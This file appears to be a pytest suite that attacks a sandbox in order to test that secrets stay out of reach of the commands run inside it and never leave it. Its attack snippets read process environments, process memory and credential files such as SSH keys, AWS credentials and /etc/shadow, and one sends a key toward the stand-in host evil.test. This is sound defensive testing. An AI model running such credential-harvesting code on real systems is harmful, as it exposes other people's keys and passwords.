"""Attacks on secrets: of the host, of the service, and those a sandbox has a stand-in for.

C15: the value is in no place that a command can look at, and in nothing that leaves the sandbox.
"""

import base64
import binascii
import json
import tempfile
from collections.abc import AsyncGenerator
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from domain.sandbox import EgressRow, SecretGrant
from domain.secrets import SecretRef, SecretValue
from services.sandbox.port import Command, SandboxSpec
from tests.attacks.arena import LIMITS, Arena, Attack, arena
from tests.contract.sandbox_backends import ATTACKED, BackendUnderTest, processes_with
from tests.integration.egress_world import World, body, world

pytestmark = [pytest.mark.anyio, pytest.mark.sandbox]

VALUE = "sk-attacked-0123456789abcdef"
GRANTS = (SecretGrant(name="KEY", deliver="egress", hosts=("api.test",)),)

SEARCH = [
    Attack("environment", "print the environment, ours and that of all others", """
def variables():
    found = b' '.join(os.environb.values())
    for path in pathlib.Path('/proc').glob('[0-9]*/environ'):
        with contextlib.suppress(OSError): found += path.read_bytes()
    return found
tries(variables, told['abstract'][::-1])
"""),
    Attack("parents-environment", "read the environment of whoever started us", """
for pid in (1, os.getppid(), told['our_pid']):
    tries(lambda: read(f'/proc/{pid}/environ').decode('latin-1'), told['abstract'][::-1])
"""),
    Attack("command-lines", "read the command lines of all processes", """
def lines():
    found = b''
    for path in pathlib.Path('/proc').glob('[0-9]*/cmdline'):
        if path.parent.name != str(os.getpid()):
            with contextlib.suppress(OSError): found += path.read_bytes()
    return found
tries(lines, told['abstract'][::-1])
"""),
    Attack("memory", "search our own memory for what was left there before us", """
def memory():
    needle = told['abstract'][::-1].encode()
    with open('/proc/1/mem', 'rb') as memory:
        for line in open('/proc/1/maps'):
            begin, end = (int(one, 16) for one in line.split()[0].split('-'))
            memory.seek(begin)
            if needle in memory.read(end - begin): return 'found'
    raise OSError('nothing')
tries(memory)
"""),
    Attack("key-files", "read where keys are kept", """
for path in ('/root/.ssh/id_ed25519', '/root/.aws/credentials', '/root/.netrc',
             '/root/.config/gh/hosts.yml', '/run/secrets/ANTHROPIC_API_KEY',
             '/etc/shadow', '/root/.docker/config.json'):
    def first(path=path):
        data = read(path)
        if not data: raise OSError('empty')
        return data
    tries(first)
"""),
    Attack("log-files", "read what the system or we have logged", """
for path in ('/var/log/syslog', '/var/log/auth.log', '/var/log/dpkg.log', '/dev/kmsg'):
    tries(lambda: read(path)[:10])
tries(lambda: syscall(103, 116, 10, 0, 0))
"""),
]  # fmt: skip


@pytest.mark.parametrize("attack", SEARCH, indirect=True, ids=lambda one: one.name)
async def test_nothing_of_ours_is_found(attacked: Arena, attack: Attack) -> None:
    await attacked.held(attack)


async def test_secret_variable_is_on_no_command_line(attacked: Arena) -> None:
    """Looks at the whole machine while a command with a secret variable runs."""
    canary = f"{attacked.outside.token}{attacked.outside.token}"[5:40]
    value = SecretValue(SecretRef(name="TOKEN"), canary)
    seen: list[str] = []

    async def look(_chunk: bytes) -> None:
        seen.extend(processes_with(canary))

    sandbox = await attacked.sandbox()
    outcome = await sandbox.exec(
        Command("sh", ("-c", 'echo "${#TOKEN}"; sleep 0.2'), secret_env={"TOKEN": value}),
        on_stdout=look,
    )
    assert outcome.stdout.kept.strip() == str(len(canary)).encode()
    assert seen == []


# A secret that is delivered at egress: what a sandbox has is a stand-in.


class Holding:
    """An arena with a stand-in for KEY, and the hosts it may be shown to, or not."""

    def __init__(self, arena: Arena, here: World) -> None:
        self.arena, self.here = arena, here
        self.url = f"https://api.test:{here.safe.port}/"
        self.other = f"https://up.test:{here.safe.port}/"
        self.plain = f"http://api.test:{here.web.port}/"

    async def fetch(self, script: str) -> str:
        said = await self.arena.python(
            "import urllib.request\n"
            "KEY = os.environ['KEY']\n"
            "def fetch(url, headers={}, data=None):\n"
            "    asked = urllib.request.Request(url, headers=headers, data=data)\n"
            "    with urllib.request.urlopen(asked, timeout=15) as got: return got.read()\n"
            + script
        )
        assert "over" in said.output, said.output
        return said.output


@pytest.fixture(scope="module", params=ATTACKED)
async def holding(request: pytest.FixtureRequest) -> AsyncGenerator[Holding]:
    tried: BackendUnderTest = request.param
    if tried.missing is not None:
        pytest.skip(tried.missing)
    async with AsyncExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="world-")))
        here = await stack.enter_async_context(world(folder, secrets={"KEY": VALUE}, grants=GRANTS))
        made = await stack.enter_async_context(arena(tried))
        if made.promises["egress"]:
            spec = SandboxSpec(
                made.owner,
                made.room.workspace,
                limits=LIMITS,
                egress=True,
                files=here.prepared.files,
            )
            made.opened = await made.backend.open(spec)
            made.env = here.prepared.env
            assert made.opened.proxy is not None

            async def denied(row: EgressRow) -> None:
                here.denied.append(row)

            session = await here.broker.attach(here.prepared, made.opened.proxy, denied)
            stack.push_async_callback(session.close)
            yield Holding(made, here)
            return
    pytest.skip(f"{tried.name} does not promise egress, and its report says so")


FORMS = {
    "plain": VALUE,
    "base64": base64.b64encode(VALUE.encode()).decode(),
    "hexadecimal": binascii.hexlify(VALUE.encode()).decode(),
    "quoted": quote(VALUE, safe=""),
    "basic": base64.b64encode(f"user:{VALUE}".encode()).decode(),
}


def shows(text: str) -> list[str]:
    return [name for name, form in FORMS.items() if form in text]


async def test_sandbox_holds_a_stand_in(holding: Holding) -> None:
    """Prints the variable that a program would use."""
    await holding.here.forget()
    printed = await holding.fetch("print(KEY, len(KEY))")
    assert shows(printed) == []
    await holding.fetch(f"fetch({holding.url!r}, {{'X-Api-Key': KEY}})")
    assert VALUE.encode() in holding.here.safe.heads[-1]  # or nothing was held at all
    assert shows(json.dumps(dict(holding.arena.env))) == []


async def test_stand_in_sent_to_another_host_stays_one(holding: Holding) -> None:
    """Sends it to a host that may be reached, and may not have the secret."""
    await holding.here.forget()
    await holding.fetch(
        f"fetch({holding.other!r}, {{'X-Api-Key': KEY, 'Authorization': 'Bearer ' + KEY}})"
    )
    (head,) = holding.here.safe.heads
    assert shows(head.decode("latin-1")) == []


async def test_stand_in_sent_without_encryption_stays_one(holding: Holding) -> None:
    """Sends it to the right host where everybody on the way can read it."""
    await holding.here.forget()
    await holding.fetch(f"tries(lambda: fetch({holding.plain!r}, {{'X-Api-Key': KEY}}))")
    for head in holding.here.web.heads:
        assert shows(head.decode("latin-1")) == []


async def test_stand_in_for_one_host_under_another_ones_name(holding: Holding) -> None:
    """Names the host that has the secret in a header, and another in the request."""
    await holding.here.forget()
    await holding.fetch(
        f"tries(lambda: fetch({holding.other!r}, {{'Host': 'api.test', 'X-Api-Key': KEY}}))"
    )
    for head in holding.here.safe.heads:
        assert shows(head.decode("latin-1")) == []


@pytest.mark.parametrize("form", sorted(FORMS))
async def test_host_that_echoes_the_secret(holding: Holding, form: str) -> None:
    """Asks the host that has the secret to say it back, in some form, and prints that."""
    await holding.here.forget()

    told: list[bytes] = []

    async def echo(head: bytes, _reader: Any, writer: Any) -> None:
        told.append(head)
        writer.write(body(f"you sent <{FORMS[form]}>".encode(), b"X-Echo: " + FORMS[form].encode()))

    holding.here.safe.reply = echo
    printed = await holding.fetch(
        f"asked = urllib.request.Request({holding.url!r}, headers={{'X-Api-Key': KEY}})\n"
        "with urllib.request.urlopen(asked, timeout=15) as got:\n"
        "    print(got.headers['X-Echo'], got.read())\n"
    )
    assert "you sent <" in printed
    assert VALUE.encode() in told[0]
    assert shows(printed) == []


async def test_secret_in_pieces(holding: Holding) -> None:
    """Has the secret echoed in chunks that cut it, each of one byte."""
    await holding.here.forget()

    async def echo(_head: bytes, _reader: Any, writer: Any) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        for one in f"<{VALUE}>".encode():
            writer.write(b"1\r\n%c\r\n" % one)
            await writer.drain()
        writer.write(b"0\r\n\r\n")

    holding.here.safe.reply = echo
    printed = await holding.fetch(f"print(fetch({holding.url!r}, {{'X-Api-Key': KEY}}))")
    assert "b'<" in printed
    assert shows(printed) == []


async def test_secret_in_the_workspace(holding: Holding) -> None:
    """Writes everything it has into files, which snapshots take: no value is among it."""
    await holding.here.forget()
    await holding.fetch(
        "write('kept', json.dumps(dict(os.environ)))\n"
        f"write('said', repr(fetch({holding.url!r}, {{'X-Api-Key': KEY}})))\n"
    )
    for path in holding.arena.folder.rglob("*"):
        if path.is_file():
            assert shows(path.read_bytes().decode("latin-1")) == []


async def test_proxy_tells_nothing_of_the_secret(holding: Holding) -> None:
    """Makes the proxy fail and refuse in every way, with the stand-in in what it is sent."""
    await holding.here.forget()
    printed = await holding.fetch(
        "def raw(data):\n"
        "    with socket.create_connection(('127.0.0.1', 3128), 10) as asked:\n"
        "        asked.sendall(data.encode())\n"
        "        return asked.recv(65536)\n"
        "for line in ('GET http://evil.test/' + KEY, 'CONNECT ' + KEY + ':443', KEY):\n"
        "    head = ' HTTP/1.1\\r\\nHost: ' + KEY + '\\r\\nX: ' + KEY + '\\r\\n\\r\\n'\n"
        "    print(raw(line + head))\n"
    )
    assert shows(printed) == []
    assert shows(repr(holding.here.denied)) == []
